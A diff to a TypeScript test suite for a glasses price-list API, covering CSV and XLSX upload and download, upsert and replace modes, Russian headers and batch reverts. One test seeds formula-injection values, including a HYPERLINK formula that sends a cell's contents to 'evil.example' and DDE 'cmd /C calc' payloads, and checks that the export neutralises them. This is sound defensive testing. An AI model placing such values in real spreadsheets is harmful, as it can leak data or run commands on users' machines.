@@ -22,11 +22,12 @@ import { SORT_COLUMNS, SORT_DIRECTIONS } from './glass-price-schemas.js'
 
 const csv = (...lines: string[]) => `${lines.join('\n')}\n`
 const header = 'manufacturer,brand,model,price,purchase'
+const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
 
 eachDatabase('glass price list: upload and download', (ctx) => {
   let app: FastifyInstance
   before(async () => {
-    app = await buildTestApp(ctx.db, { IMPORT_BODY_LIMIT: '4096' })
+    app = await buildTestApp(ctx.db, { IMPORT_BODY_LIMIT: '16384' })
   })
   after(() => app?.close())
   beforeEach(() => clearGlassPrices(ctx.db))
@@ -52,7 +53,19 @@ eachDatabase('glass price list: upload and download', (ctx) => {
       const result = response.json()
       assert.deepEqual(
         { ...result, batch: typeof result.batch },
-        { rows: 2, written: 2, deleted: 0, dryRun: false, delimiter: ',', batch: 'number' },
+        {
+          rows: 2,
+          written: 2,
+          deleted: 0,
+          mode: 'append',
+          created: 2,
+          updated: 0,
+          unchanged: 0,
+          dryRun: false,
+          format: 'csv',
+          delimiter: ',',
+          batch: 'number',
+        },
       )
       assert.deepEqual((await stored()).slice(1), [
         ['Luxottica', 'Ray-Ban', 'RB5154', '12990.00', '6500.00', 'anonymous'],
@@ -88,13 +101,21 @@ eachDatabase('glass price list: upload and download', (ctx) => {
       ])
       const before = await stored()
       const response = await upload(
-        csv('model;brand;manufacturer;purchase;price', 'RB5154;Ray-Ban;Luxottica;6 500,00;12 990,00'),
+        csv(
+          'model;brand;manufacturer;purchase;price',
+          'RB5154;Ray-Ban;Luxottica;6 500,00;12 990,00',
+          'CA 8862;Carrera;Safilo;4 800,00;11 990,00',
+        ),
         '?replace=true',
       )
       assert.equal(response.statusCode, 200, response.body)
       assert.equal(response.json().deleted, 2)
+      assert.equal(response.json().mode, 'replace')
       assert.equal(response.json().delimiter, ';')
-      assert.deepEqual(await stored(), [['Luxottica', 'Ray-Ban', 'RB5154', '12990.00', '6500.00', 'anonymous']])
+      assert.deepEqual(await stored(), [
+        ['Luxottica', 'Ray-Ban', 'RB5154', '12990.00', '6500.00', 'anonymous'],
+        ['Safilo', 'Carrera', 'CA 8862', '11990.00', '4800.00', 'anonymous'],
+      ])
       const revert = await app.inject({
         method: 'POST',
         url: `${pricesPath}/changes/${response.json().batch}/revert`,
@@ -105,6 +126,184 @@ eachDatabase('glass price list: upload and download', (ctx) => {
         (await stored()).map((row) => row.slice(0, 5)),
         before.map((row) => row.slice(0, 5)),
       )
+    })
+
+    const twoBrands = () =>
+      seedEntries(ctx.db, [
+        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB5154', price: 9990, purchase: 5000 },
+        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB2140', price: 12990, purchase: 6000 },
+        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB3025', price: 11990, purchase: 5500 },
+        { manufacturer: 'Safilo', brand: 'Carrera', model: 'CA 8862', price: 8990, purchase: 4000 },
+        { manufacturer: 'Safilo', brand: 'Carrera', model: 'CA 1343', price: 10690, purchase: 4890 },
+      ])
+
+    test('round trip: a brand exported, prices edited, uploaded with mode=upsert keeps ids and history, and reverts', async () => {
+      const ids = await twoBrands()
+      const exported = await download('?brand=ray-ban&excel=true')
+      assert.equal(exported.statusCode, 200)
+      // The price manager edits in a spreadsheet: one price up, the rest as they were, one new model.
+      const lines = exported.body
+        .replace(/^\uFEFF/, '')
+        .trimEnd()
+        .split(/\r?\n/)
+      assert.equal(lines.length, 4)
+      const edited = lines.map((line) => line.replace('RB5154;9990,00;5000,00', 'RB5154;10 490,00;5000,00'))
+      edited.push('Luxottica;Ray-Ban;RB4171;13 990,00;6 200,00')
+      const untouched = (await stored()).slice(3)
+      const response = await upload(`\uFEFF${edited.join('\r\n')}\r\n`, '?mode=upsert')
+      assert.equal(response.statusCode, 200, response.body)
+      const result = response.json()
+      assert.deepEqual(
+        { ...result, batch: typeof result.batch },
+        {
+          rows: 4,
+          written: 2,
+          deleted: 0,
+          mode: 'upsert',
+          created: 1,
+          updated: 1,
+          unchanged: 2,
+          dryRun: false,
+          format: 'csv',
+          delimiter: ';',
+          batch: 'number',
+        },
+      )
+      const after = await storedEntries(ctx.db)
+      assert.deepEqual(
+        after.map((e) => [e.id, e.model, e.price, e.updated_by, e.version]),
+        [
+          [ids[0], 'RB5154', '10490.00', 'anonymous', 2],
+          [ids[1], 'RB2140', '12990.00', 'seed', 1],
+          [ids[2], 'RB3025', '11990.00', 'seed', 1],
+          [ids[3], 'CA 8862', '8990.00', 'seed', 1],
+          [ids[4], 'CA 1343', '10690.00', 'seed', 1],
+          [after[5]?.id, 'RB4171', '13990.00', 'anonymous', 1],
+        ],
+      )
+      assert.deepEqual((await stored()).slice(3, 5), untouched)
+      const history = (await app.inject({ method: 'GET', url: `${pricesPath}/${ids[0]}/history` })).json()
+      assert.equal(history.content[0].batch, result.batch)
+      assert.equal(history.content[0].action, 'IMPORT')
+      assert.deepEqual(history.content[0].changes, [{ field: 'price', oldValue: 9990, newValue: 10490 }])
+      const changes = (await app.inject({ method: 'GET', url: `${pricesPath}/changes` })).json().content
+      assert.equal(changes[0].changedCount, 2)
+
+      const revert = await app.inject({ method: 'POST', url: `${pricesPath}/changes/${result.batch}/revert` })
+      assert.equal(revert.statusCode, 200, revert.body)
+      assert.equal(revert.json().restoredCount, 2)
+      assert.deepEqual(
+        (await storedEntries(ctx.db)).map((e) => [e.id, e.price]),
+        ids.map((id, index) => [id, ['9990.00', '12990.00', '11990.00', '8990.00', '10690.00'][index]]),
+      )
+    })
+
+    test('mode=upsert dry run counts what it would do and writes nothing; append names the mode for keys there', async () => {
+      await twoBrands()
+      const before = await stored()
+      const file = csv(header, 'Luxottica,ray-ban,rb5154,9990,5001', 'Safilo,Carrera,CA 8862,8990,4000', 'A,B,C,1,1')
+      const dry = await upload(file, '?mode=upsert&dryRun=true')
+      assert.equal(dry.statusCode, 200, dry.body)
+      assert.deepEqual(
+        [dry.json().created, dry.json().updated, dry.json().unchanged, dry.json().written, dry.json().batch],
+        [1, 1, 1, 0, null],
+      )
+      assert.deepEqual(await stored(), before)
+      const appended = await upload(file)
+      assert.equal(appended.statusCode, 422)
+      assert.deepEqual(
+        appended
+          .json()
+          .problems.map((p: { line: number; message: string }) => [p.line, p.message.replace(/ \(id \d+\)/, '')]),
+        [
+          [2, 'the keys and bounds are already in the price list: the mode upsert updates its prices'],
+          [3, 'the keys and bounds are already in the price list: the mode upsert updates its prices'],
+        ],
+      )
+      const contradiction = await upload(file, '?mode=upsert&replace=true')
+      assert.equal(contradiction.statusCode, 400)
+      assert.equal(contradiction.json().errors[0].field, 'replace')
+      assert.equal((await upload(file, '?mode=merge')).statusCode, 400)
+    })
+
+    test('mode=replace from a filtered export is a 409 saying how many it would delete, until confirmDeletes names it', async () => {
+      await twoBrands()
+      const before = await stored()
+      const exported = await download('?brand=carrera')
+      for (const query of [
+        '?mode=replace',
+        '?replace=true',
+        '?mode=replace&confirmDeletes=3',
+        '?mode=replace&dryRun=true',
+      ]) {
+        const refused = await upload(exported.rawPayload, query)
+        assert.equal(refused.statusCode, 409, `${query}: ${refused.body}`)
+        assert.match(String(refused.headers['content-type']), /^application\/problem\+json/)
+        const problem = refused.json()
+        assert.equal(problem.code, 'confirm-deletes')
+        assert.equal(problem.deleteCount, 5)
+        assert.equal(problem.otherCount, 3)
+        assert.match(problem.detail, /would delete 5 entries, 3 of them of another manufacturer.*confirmDeletes=5/)
+        assert.deepEqual(await stored(), before)
+      }
+      const confirmed = await upload(exported.rawPayload, '?mode=replace&confirmDeletes=5')
+      assert.equal(confirmed.statusCode, 200, confirmed.body)
+      assert.equal(confirmed.json().deleted, 5)
+      assert.deepEqual(
+        (await stored()).map((row) => row[2]),
+        ['CA 8862', 'CA 1343'],
+      )
+    })
+
+    test('a sheet headed in Russian uploads: Производитель;Бренд;Модель;Цена;Закупка', async () => {
+      const response = await upload(
+        csv('Производитель; Бренд ;МОДЕЛЬ;цена;Закупка', 'Luxottica;Ray-Ban;RB5154;12 990,00;6 500,00'),
+      )
+      assert.equal(response.statusCode, 200, response.body)
+      assert.deepEqual(await stored(), [['Luxottica', 'Ray-Ban', 'RB5154', '12990.00', '6500.00', 'anonymous']])
+    })
+
+    test('problems follow Accept-Language: Russian for ru, English otherwise', async () => {
+      await seedEntries(ctx.db, [{ manufacturer: 'A', brand: 'B', model: 'C', price: 1, purchase: 1 }])
+      const file = csv('Производитель;Бренд;Модель;Цена;Закупка;Цвет', 'A;B;C;1;1;x', 'A;B;D;-1;1,555;x')
+      const ask = (language?: string) =>
+        app.inject({
+          method: 'POST',
+          url: `${pricesPath}/import`,
+          headers: { 'content-type': 'text/csv', ...(language ? { 'accept-language': language } : {}) },
+          payload: file,
+        })
+      const russian = await ask('ru-RU,ru;q=0.9,en;q=0.5')
+      assert.equal(russian.statusCode, 422)
+      assert.equal(russian.headers['content-language'], 'ru')
+      const problem = russian.json()
+      assert.equal(problem.title, 'Необрабатываемые данные')
+      assert.equal(problem.detail, 'В файле 1 ошибка; ничего не записано')
+      assert.match(
+        problem.problems[0].message,
+        /^неизвестный столбец; столбцы: Производитель, Бренд, Модель, Цена, Закупка/,
+      )
+      const russianProblems = async (...lines: string[]) =>
+        (
+          await app.inject({
+            method: 'POST',
+            url: `${pricesPath}/import`,
+            headers: { 'content-type': 'text/csv', 'accept-language': 'ru' },
+            payload: csv('Производитель;Бренд;Модель;Цена;Закупка', ...lines),
+          })
+        )
+          .json()
+          .problems.map((p: { message: string }) => p.message.replace(/ \(id \d+\)/, ''))
+      assert.deepEqual(await russianProblems('A;B;D;-1;1,555'), [
+        'не может быть отрицательным',
+        'больше 2 знаков после запятой',
+      ])
+      assert.deepEqual(await russianProblems('A;B;C;1;1'), [
+        'такие ключи и границы уже есть в прайс-листе: режим upsert обновит цены',
+      ])
+      const english = await ask()
+      assert.equal(english.headers['content-language'], 'en')
+      assert.equal(english.json().detail, 'The file has 1 problem; nothing was written')
     })
 
     test('a file with problems is a 422 listing each with its line and column, and nothing is written', async () => {
@@ -150,7 +349,19 @@ eachDatabase('glass price list: upload and download', (ctx) => {
     test('dryRun=true checks the file and writes nothing', async () => {
       const response = await upload(csv(header, 'A,B,C,1,1'), '?dryRun=true')
       assert.equal(response.statusCode, 200)
-      assert.deepEqual(response.json(), { rows: 1, written: 0, deleted: 0, dryRun: true, delimiter: ',', batch: null })
+      assert.deepEqual(response.json(), {
+        rows: 1,
+        written: 0,
+        deleted: 0,
+        mode: 'append',
+        created: 1,
+        updated: 0,
+        unchanged: 0,
+        dryRun: true,
+        format: 'csv',
+        delimiter: ',',
+        batch: null,
+      })
       assert.deepEqual(await stored(), [])
       assert.equal(await changeCount(ctx.db), 0)
     })
@@ -158,13 +369,13 @@ eachDatabase('glass price list: upload and download', (ctx) => {
     test('a JSON body is a 415 naming text/csv; a file over IMPORT_BODY_LIMIT is a 413', async () => {
       const json = await upload('{"a":1}', '', 'application/json')
       assert.equal(json.statusCode, 415)
-      assert.equal(json.headers.accept, 'text/csv')
+      assert.equal(json.headers.accept, `text/csv, ${XLSX}`)
       assert.match(json.json().detail, /text\/csv/)
       const big = await upload(
-        csv(header, ...numberedEntries('Big', 250).map((e) => `${e.manufacturer},${e.brand},${e.model},1,1`)),
+        csv(header, ...numberedEntries('Big', 1000).map((e) => `${e.manufacturer},${e.brand},${e.model},1,1`)),
       )
       assert.equal(big.statusCode, 413)
-      assert.match(big.json().detail, /4096 bytes/)
+      assert.match(big.json().detail, /16384 bytes/)
       assert.deepEqual(await stored(), [])
     })
   })
@@ -179,7 +390,18 @@ eachDatabase('glass price list: upload and download', (ctx) => {
       const response = await download('?manufacturer=lux&sortColumn=PRICE&sortDirection=DESC')
       assert.equal(response.statusCode, 200)
       assert.match(String(response.headers['content-type']), /^text\/csv/)
-      assert.match(String(response.headers['content-disposition']), /attachment; filename="glass-prices-.*\.csv"/)
+      assert.match(
+        String(response.headers['content-disposition']),
+        /^attachment; filename="glass-prices-lux-\d{4}-\d\d-\d\d\.csv"$/,
+      )
+      const names = await Promise.all(
+        ['?brand=ray&sortColumn=PRICE', '?brand=ray&excel=true', '?format=xlsx', '?brand=Очки'].map(
+          async (query) => String((await download(query)).headers['content-disposition']).split('"')[1],
+        ),
+      )
+      assert.equal(new Set(names).size, 4, names.join(' '))
+      assert.match(names[3] ?? '', /^glass-prices-\d{4}-\d\d-\d\d\.csv$/, 'a Cyrillic filter is left out of the name')
+      assert.match(names[1] ?? '', /^glass-prices-ray-\d{4}-\d\d-\d\d-excel\.csv$/)
       assert.equal(
         response.body,
         csv(header, 'Luxottica,Ray-Ban,RB1,300.10,150.00', 'Luxottica,Oakley,OX2,100.00,50.00'),
@@ -298,6 +520,89 @@ eachDatabase('glass price list: upload and download', (ctx) => {
         ['Seed', 'Sheet', 'Sheet 02', 200, 100],
         ['Seed', 'Sheet', 'Sheet 03', 300, 150],
       ])
+    })
+
+    test('XLSX export uploads back unchanged: no formula cells, hostile text intact, also sent as text/csv', async () => {
+      const models = [
+        '=HYPERLINK("http://evil.example/?"&A1,"RB01")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '-RB01',
+        "'quoted",
+        "'=already",
+        'literal _x0041_ escape',
+        'a & <b> "c"',
+        'Очки ёлка',
+      ]
+      await seedEntries(
+        ctx.db,
+        models.map((model, index) => ({
+          manufacturer: index === 0 ? '=cmd|"/C calc"!A0' : 'Safe',
+          brand: 'Brand',
+          model,
+          price: `${100 + index}.${index}5`,
+          purchase: 50,
+        })),
+      )
+      const before = await stored()
+      const response = await download('?format=xlsx')
+      assert.equal(response.statusCode, 200)
+      const workbook = new ExcelJS.Workbook()
+      await workbook.xlsx.load(response.rawPayload as never)
+      const formulas: string[] = []
+      workbook.worksheets[0]?.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (cell.type === ExcelJS.ValueType.Formula) formulas.push(String(cell.address))
+        }),
+      )
+      assert.deepEqual(formulas, [])
+      for (const contentType of [XLSX, 'text/csv']) {
+        await clearGlassPrices(ctx.db)
+        const uploaded = await upload(response.rawPayload, '', contentType)
+        assert.equal(uploaded.statusCode, 200, uploaded.body)
+        assert.deepEqual([uploaded.json().format, uploaded.json().delimiter], ['xlsx', null])
+        assert.deepEqual(
+          (await stored()).map((row) => row.slice(0, 5)),
+          before.map((row) => row.slice(0, 5)),
+        )
+      }
+    })
+
+    test('round trip in a spreadsheet: an XLSX export edited in another program uploads with mode=upsert', async () => {
+      const ids = await seedEntries(ctx.db, [
+        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB5154', price: 9990, purchase: 5000 },
+        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB2140', price: 12990, purchase: 6000 },
+        { manufacturer: 'Safilo', brand: 'Carrera', model: 'CA 8862', price: 8990, purchase: 4000 },
+      ])
+      const exported = await download('?brand=ray-ban&format=xlsx')
+      const workbook = new ExcelJS.Workbook()
+      await workbook.xlsx.load(exported.rawPayload as never)
+      const sheet = workbook.worksheets[0]!
+      // As a price manager does it: a price computed by a formula (+5 %), a new row typed in, saved by the program.
+      sheet.getCell('D2').value = { formula: 'ROUND(9990*1.05,-1)', result: 10490 } as never
+      sheet.addRow(['Luxottica', 'Ray-Ban', 'RB4171', 13990.5, '6 200,00'])
+      const edited = Buffer.from(await workbook.xlsx.writeBuffer())
+      const response = await upload(edited, '?mode=upsert', XLSX)
+      assert.equal(response.statusCode, 200, response.body)
+      assert.deepEqual(
+        [response.json().created, response.json().updated, response.json().unchanged, response.json().format],
+        [1, 1, 1, 'xlsx'],
+      )
+      const after = await storedEntries(ctx.db)
+      assert.deepEqual(
+        after.map((e) => [e.id, e.model, e.price, e.purchase]),
+        [
+          [ids[0], 'RB5154', '10490.00', '5000.00'],
+          [ids[1], 'RB2140', '12990.00', '6000.00'],
+          [ids[2], 'CA 8862', '8990.00', '4000.00'],
+          [after[3]?.id, 'RB4171', '13990.50', '6200.00'],
+        ],
+      )
+    })
+
+    test('a body that is no workbook, sent as XLSX, is a 422 saying so', async () => {
+      const response = await upload('manufacturer,brand\n', '', XLSX)
+      assert.equal(response.statusCode, 422)
+      assert.match(response.json().problems[0].message, /not a readable XLSX workbook/)
     })
 
     test('a bad filter is a 400 problem, not a file', async () => {
